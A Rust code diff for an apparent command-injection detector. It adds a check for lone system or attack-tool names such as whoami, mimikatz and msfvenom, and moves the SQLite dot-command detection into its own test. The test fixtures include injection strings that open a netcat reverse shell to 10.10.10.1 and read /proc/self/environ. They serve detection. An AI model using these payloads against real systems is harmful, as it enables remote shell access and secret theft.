@@ -564,7 +564,7 @@ fn command_starts(s: &[u8]) -> impl Iterator<Item = (usize, bool)> + '_ {
 /// `.system` (or any prefix of them SQLite accepts, down to two letters) run
 /// a program. A literal `\n` counts as the newline an application
 /// unescaping the value would make of it.
-fn sqlite_dot_command(s: &[u8]) -> Option<usize> {
+pub(super) fn sqlite_dot_command(s: &[u8]) -> Option<usize> {
     const DOT: &[&[u8]] =
         &[b"databases", b"tables", b"dump", b"open", b"read", b"import", b"output", b"once", b"load", b"schema", b"backup"];
     memchr::memchr(b'.', s)?;
@@ -658,7 +658,41 @@ fn has_subcommand(args: &[u8]) -> bool {
         b"exploit",
         b"attach",
     ];
-    args.split(|&b| b == b' ').any(|w| VERBS.contains(&w))
+    args.split(u8::is_ascii_whitespace).any(|w| VERBS.contains(&w))
+}
+
+/// `whoami`, `visudo`, `chef-shell` as the whole value: a program that
+/// only reports on or administers the system, or a hyphenated tool name
+/// (`ansible-console`), sent to a parameter that runs what it is given.
+/// Names that are also words, products or server actions (`python`,
+/// `shutdown`, `reboot`) are not enough alone.
+pub(super) fn lone_program(s: &[u8]) -> Option<&'static str> {
+    const ALONE: &[&str] = &[
+        "whoami",
+        "ifconfig",
+        "ipconfig",
+        "uname",
+        "netstat",
+        "systeminfo",
+        "visudo",
+        "getent",
+        "tasklist",
+        "lsof",
+        "useradd",
+        "userdel",
+        "usermod",
+        "chpasswd",
+        "iptables",
+        "msfconsole",
+        "msfvenom",
+        "mimikatz",
+    ];
+    let v = s.trim_ascii();
+    if v.len() < 4 || v.len() > 32 || !v.iter().all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'.')) {
+        return None;
+    }
+    let (name, english) = program(v)?;
+    (!english && (ALONE.contains(&name) || name.contains('-'))).then_some(name)
 }
 
 /// A value that is nothing but a few shell words: no sentence punctuation,
@@ -670,7 +704,7 @@ fn whole_command_line(s: &[u8]) -> bool {
         b"this", b"that", b"from", b"not", b"if", b"can", b"will",
     ];
     let s = s.trim_ascii();
-    let words = || s.split(|&b| b == b' ').filter(|w| !w.is_empty());
+    let words = || s.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty());
     s.len() <= 80
         && !s.ends_with(b".")
         && words().count() <= 6
@@ -1049,9 +1083,6 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
     if let Some((at, why)) = constructs(s) {
         return Some((High, format!("command injection: {why}"), at));
     }
-    if let Some(at) = sqlite_dot_command(s) {
-        return Some((High, "command injection: SQLite shell dot-command".into(), at));
-    }
     let mut seen = 0usize;
     // Without a separator, only the value's start can open a command.
     let separated = memchr::memchr3(b';', b'|', b'&', s).is_some()
@@ -1336,14 +1367,9 @@ mod tests {
         for a in [
             "ls -l /etc/passwd",
             "cat /proc/self/environ",
-            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
-            "\";\n. shell nc 10.10.10.1 6666 -e sh",
-            "1;.sh whoami",
             "ansible-galaxy collection install community.general",
             "cscli alerts list",
             "pip3 install something",
-            "1;.\"shell whoami",
-            ";\\n.databases",
             "nohup ifconfig",
             "strace sh -c whoami",
             "time sh -c whoami",
@@ -1416,13 +1442,26 @@ mod tests {
     }
 
     #[test]
+    fn reads_sqlite_dot_commands() {
+        for a in [
+            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
+            "\";\n. shell nc 10.10.10.1 6666 -e sh",
+            "1;.sh whoami",
+            "1;.\"shell whoami",
+            ";\\n.databases",
+        ] {
+            assert!(sqlite_dot_command(a.as_bytes()).is_some(), "missed: {a}");
+        }
+        for b in ["config files; .sh and .py ones", "v1.2; .net framework", ".shell company", "a;.shell"] {
+            assert!(sqlite_dot_command(b.as_bytes()).is_none(), "false positive: {b}");
+        }
+    }
+
+    #[test]
     fn leaves_prose_alone() {
         for b in [
             "time to go home",
             "find the best price",
-            "config files; .sh and .py ones",
-            "v1.2; .net framework",
-            ".shell company",
             "python3 tutorial",
             "php webpage and gene",
             "openssl m",
